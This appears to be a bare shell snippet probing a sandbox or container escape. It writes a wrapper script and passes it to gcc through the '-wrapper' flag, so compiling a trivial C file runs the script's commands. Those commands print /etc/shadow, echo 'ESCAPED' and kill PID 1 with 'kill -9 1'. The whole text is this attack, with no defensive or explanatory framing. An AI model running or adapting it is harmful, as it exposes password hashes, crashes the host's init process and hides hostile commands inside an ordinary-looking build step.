cat > w.sh <<'END'
#!/bin/sh
cat /etc/shadow && echo ESCAPED
kill -9 1
exec "$@"
END
chmod +x w.sh
echo 'int main(void){return 0;}' > a.c
gcc -wrapper ./w.sh a.c && ./a.out && echo built
